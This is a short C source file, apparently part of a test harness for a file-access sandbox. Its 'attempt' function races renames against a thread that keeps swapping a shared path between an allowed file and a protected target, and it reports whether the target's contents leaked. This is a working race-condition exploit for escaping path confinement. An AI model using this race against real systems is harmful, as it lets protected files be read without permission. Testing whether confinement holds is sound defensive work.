#include "attack.h"
#include "opens.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* As name-racing-path, from the one folder to its own, where it may read whatever comes. */
    static char path[4096];
    char *moved = in(workspace, "moved");
    int leaked = 0;
    pthread_t other;
    strcpy(path, extra);
    struct swap swap = {.place = path, .one = extra, .other = target};
    if (rename(extra, moved) == 0) /* undisturbed: what is allowed can be done */
        rename(moved, extra);
    if (pthread_create(&other, NULL, keep_rewriting, &swap) != 0)
        return 0;
    while (!leaked && goes_on())
        if (rename(path, moved) == 0 && !(leaked = first_of(open(moved, O_RDONLY)) == 's'))
            rename(moved, extra);
    swap.over = 1;
    pthread_join(other, NULL);
    return leaked;
}
